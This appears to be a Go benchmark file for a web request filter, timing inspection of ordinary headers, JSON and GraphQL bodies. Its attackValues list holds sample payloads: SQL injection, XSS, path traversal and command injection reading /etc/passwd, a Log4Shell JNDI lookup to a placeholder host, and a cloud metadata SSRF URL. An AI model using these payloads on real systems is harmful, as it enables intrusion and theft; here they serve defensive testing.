package filter

import (
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/corazawaf/libinjection-go"
)

// BenchmarkBaselineLibinjection is the yardstick for the figures below on
// a loaded machine: one libinjection.IsSQLi call on a browser User-Agent,
// benchmarked in the same run.
func BenchmarkBaselineLibinjection(b *testing.B) {
	ua := ordinaryValues[7].value
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		libinjection.IsSQLi(ua)
	}
}

// ordinaryValues are what most requests carry: short ids, words, header
// values, a long browser User-Agent.
var ordinaryValues = []benignValue{
	{KindQueryValue, "page", "2"},
	{KindQueryValue, "sort", "price_asc"},
	{KindQueryValue, "q", "union station parking"},
	{KindQueryValue, "id", "550e8400-e29b-41d4-a716-446655440000"},
	{KindQueryValue, "email", "john.doe+news@example.com"},
	{KindHeaderValue, "Accept-Language", "en-US,en;q=0.9,fr;q=0.8"},
	{KindHeaderValue, "Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
	{KindUserAgent, "User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"},
	{KindHeaderValue, "Referer", "https://shop.example.com/products?category=shoes&sort=price_asc&page=2"},
	{KindCookieValue, "_ga", "GA1.1.1234567890.1700000000"},
}

var attackValues = []benignValue{
	{KindQueryValue, "id", "1' or '1'='1' -- "},
	{KindQueryValue, "id", "-1 union all select null,concat(user(),0x3a,database()),null--"},
	{KindQueryValue, "q", "<svg/onload=alert(document.domain)>"},
	{KindQueryValue, "file", "..%252f..%252f..%252fetc%252fpasswd"},
	{KindQueryValue, "host", "127.0.0.1;cat /etc/passwd"},
	{KindHeaderValue, "X-Api-Version", "${${lower:j}ndi:ldap://x.example/a}"},
	{KindQueryValue, "url", "http://169.254.169.254/latest/meta-data/"},
	{KindBodyValue, "name", "{{7*7}}"},
}

func benchValues(b *testing.B, vals []benignValue) {
	in, err := NewInspector(InspectorOptions{})
	if err != nil {
		b.Fatal(err)
	}
	var dst []Hit
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		v := vals[i%len(vals)]
		dst = in.InspectValue(dst[:0], v.kind, v.name, v.value)
	}
}

// BenchmarkInspectValueOrdinary: ns per ordinary value (the mix above).
func BenchmarkInspectValueOrdinary(b *testing.B) { benchValues(b, ordinaryValues) }

// BenchmarkInspectValueAttack: ns per attack value.
func BenchmarkInspectValueAttack(b *testing.B) { benchValues(b, attackValues) }

// BenchmarkInspectValueShort: the common case of a short plain token.
func BenchmarkInspectValueShort(b *testing.B) {
	benchValues(b, []benignValue{{KindQueryValue, "page", "2"}, {KindQueryValue, "sort", "price_asc"}})
}

// BenchmarkInspectValueUserAgent: a browser User-Agent.
func BenchmarkInspectValueUserAgent(b *testing.B) { benchValues(b, ordinaryValues[7:8]) }

// BenchmarkInspectValueProse1KB: 1 KB of prose with punctuation, as a
// comment field in a JSON body.
func BenchmarkInspectValueProse1KB(b *testing.B) {
	s := strings.Repeat("It's 5 o'clock -- select a plan (or two) & drop us a line at hello@example.com; thanks! ", 12)[:1024]
	benchValues(b, []benignValue{{KindBodyValue, "comment", s}})
}

// BenchmarkInspectValueLinear checks that cost grows linearly with size
// on a hostile shape (many openers, no closers).
func BenchmarkInspectValueLinear(b *testing.B) {
	for _, n := range []int{1 << 10, 1 << 14, 1 << 17} {
		s := strings.Repeat("${{<'(%2", n/8)
		b.Run(itoa(n), func(b *testing.B) {
			b.SetBytes(int64(len(s)))
			benchValues(b, []benignValue{{KindBodyValue, "x", s}})
		})
	}
}

func itoa(n int) string { return strconv.Itoa(n>>10) + "KiB" }

// BenchmarkEngineGET: a browser GET with 5 query parameters and 10
// ordinary headers, through the whole Engine: cold (the clean-value cache
// off, every value inspected as on a client's first request) and warm (the
// same request again, as a client repeats it).
func BenchmarkEngineGET(b *testing.B) { coldAndWarm(b, benchEngineGET) }

// coldAndWarm runs bench on an engine without and with the clean-value
// cache.
func coldAndWarm(b *testing.B, bench func(*testing.B, *Engine)) {
	for _, mode := range []string{"cold", "warm"} {
		b.Run(mode, func(b *testing.B) {
			eng, err := New(Config{})
			if err != nil {
				b.Fatal(err)
			}
			if mode == "cold" {
				eng.clean = nil
			}
			bench(b, eng)
		})
	}
}

func benchEngineGET(b *testing.B, eng *Engine) {
	r, _ := http.NewRequest("GET", "http://shop.example.com/products/list?q=union+station&category=shoes&sort=price_asc&page=2&utm_source=google", nil)
	r.RemoteAddr = "198.51.100.7:51234"
	h := r.Header
	h.Set("User-Agent", ordinaryValues[7].value)
	h.Set("Accept", ordinaryValues[6].value)
	h.Set("Accept-Language", "en-US,en;q=0.9,fr;q=0.8")
	h.Set("Accept-Encoding", "gzip, deflate, br")
	h.Set("Referer", ordinaryValues[8].value)
	h.Set("Sec-Ch-Ua", `"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"`)
	h.Set("Sec-Ch-Ua-Platform", `"Windows"`)
	h.Set("Sec-Fetch-Site", "same-origin")
	h.Set("Cookie", "_ga=GA1.1.1234567890.1700000000; theme=dark")
	h.Set("Upgrade-Insecure-Requests", "1")
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d, err := eng.Inspect(r)
		if err != nil || d.Blocked {
			b.Fatal(err, d)
		}
	}
}

// BenchmarkEnginePOSTJSON1KB: a 1 KB JSON POST through the whole Engine,
// cold and warm like BenchmarkEngineGET.
func BenchmarkEnginePOSTJSON1KB(b *testing.B) { coldAndWarm(b, benchEnginePOST) }

func benchEnginePOST(b *testing.B, eng *Engine) {
	body := `{"customer":{"name":"Seán O'Brien","email":"sean.obrien+shop@example.com","phone":"+1 (555) 123-4567",` +
		`"address":{"street":"123 Union St., Apt #4","city":"Springfield","zip":"62701","country":"US"}},` +
		`"items":[{"sku":"TSHIRT-RED-M","name":"T-shirt (red, M)","qty":2,"price":"19.99"},{"sku":"MUG-01","name":"Mug","qty":1,"price":"12.50"}],` +
		`"comment":"Please deliver after 5pm -- ring twice; the cat & dog are friendly :) Select the eco packaging if possible.",` +
		`"coupon":"SPRING-2024","gift":false,"created_at":"2024-01-15T10:30:00Z","tags":["gift","express","union station"],` +
		`"notes":"Call me if there is any problem with the order. Thanks a lot for the quick service last time!",` +
		`"metadata":{"source":"web","campaign":"newsletter","ab_test":"checkout_v2","referrer":"https://www.example.com/blog/summer?ref=nav"},` +
		`"payment":{"method":"card","last4":"4242","brand":"visa","billing_same":true}}`
	for len(body) < 1024 {
		body = body[:len(body)-1] + `,"pad":"` + strings.Repeat("x", 1024-len(body)-9) + `"}`
	}
	benchEnginePOSTBody(b, eng, "http://api.example.com/v1/orders", body, http.Header{
		"User-Agent": {"okhttp/4.12.0"},
		"Accept":     {"application/json"},
	})
}

// benchEnginePOSTBody posts the JSON body to url with the given headers
// through eng, a new request each time (the body is read once).
func benchEnginePOSTBody(b *testing.B, eng *Engine, url, body string, hdr http.Header) {
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		r, _ := http.NewRequest("POST", url, strings.NewReader(body))
		r.RemoteAddr = "198.51.100.7:51234"
		for k, v := range hdr {
			r.Header[k] = v
		}
		r.Header.Set("Content-Type", "application/json")
		d, err := eng.Inspect(r)
		if err != nil || d.Blocked {
			b.Fatal(err, d)
		}
	}
}

// BenchmarkEnginePOSTGraphQL: an Apollo client's query (fragments,
// variables, __typename in every selection set), the document read by the
// GraphQL walker and its string arguments inspected one by one.
func BenchmarkEnginePOSTGraphQL(b *testing.B) { coldAndWarm(b, benchEngineGraphQL) }

func benchEngineGraphQL(b *testing.B, eng *Engine) {
	body := `{"operationName":"ProductPage","variables":{"slug":"red-t-shirt","first":12,"after":null,"locale":"en-US"},` +
		`"query":"query ProductPage($slug: String!, $first: Int = 12, $after: String, $locale: String) {\n  product(slug: $slug, locale: $locale) {\n    __typename\n    ...ProductFields\n    reviews(first: $first, after: $after, orderBy: {field: CREATED_AT, direction: DESC}) {\n      __typename\n      edges { __typename node { __typename id rating body author { __typename ...UserFields } } }\n      pageInfo { __typename hasNextPage endCursor }\n    }\n    related: recommendations(limit: 4, strategy: \"similar\") { __typename ...ProductFields }\n  }\n}\nfragment ProductFields on Product { __typename id name slug price { __typename amount currency } image(size: \"medium\") { __typename url alt } }\nfragment UserFields on User { __typename id displayName avatarUrl(size: 48) }"}`
	benchEnginePOSTBody(b, eng, "http://api.example.com/graphql", body, http.Header{
		"User-Agent":                {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15"},
		"Accept":                    {"application/graphql-response+json, application/json"},
		"Apollographql-Client-Name": {"web"},
	})
}

// BenchmarkEnginePOSTOrders: the 1 KB order bodies of scripts/load.sh's
// post_1k workload (1000 orders, 13 lines each out of a catalogue of 5000
// SKUs, a few notes and customers), sent in turn through one engine: the
// clean-value cache as a shop's API traffic warms it.
func BenchmarkEnginePOSTOrders(b *testing.B) {
	notes := []string{"gift wrap, ring the bell", "leave at the door", "call on arrival", "no plastic please", "fragile: glass inside"}
	customers := []string{"alice", "bob", "carol", "dave", "erin"}
	bodies := make([]string, 1000)
	for n := 1; n <= len(bodies); n++ {
		lines := make([]string, 13)
		for i := 1; i <= 13; i++ {
			lines[i-1] = fmt.Sprintf(`{"sku":"SKU-%06d","qty":%d,"note":"%s"}`, (n*37+i*101)%5000, (n+i)%5+1, notes[(n+i)%len(notes)])
		}
		bodies[n-1] = fmt.Sprintf(`{"order":{"ref":"ord-%08d","customer":"%s","currency":"EUR","lines":[%s,{"sku":"SKU-100013","qty":1}],"shipping":{"street":"12 Rue de la Paix","city":"Paris","zip":"75002"}}}`,
			n, customers[n%len(customers)], strings.Join(lines, ","))
	}
	eng, err := New(Config{})
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		r, _ := http.NewRequest("POST", "http://api.example.com/post", strings.NewReader(bodies[i%len(bodies)]))
		r.RemoteAddr = "198.51.100.7:51234"
		r.Header.Set("Content-Type", "application/json")
		d, err := eng.Inspect(r)
		if err != nil || d.Blocked {
			b.Fatal(err, d)
		}
	}
}
